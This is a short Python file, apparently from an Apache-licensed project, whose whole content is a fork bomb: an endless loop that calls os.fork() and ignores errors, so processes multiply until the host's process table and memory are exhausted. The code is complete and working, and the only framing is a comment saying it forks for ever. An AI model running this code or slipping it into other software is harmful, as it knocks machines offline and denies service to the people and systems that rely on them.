# SPDX-License-Identifier: Apache-2.0
# Forks for ever.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
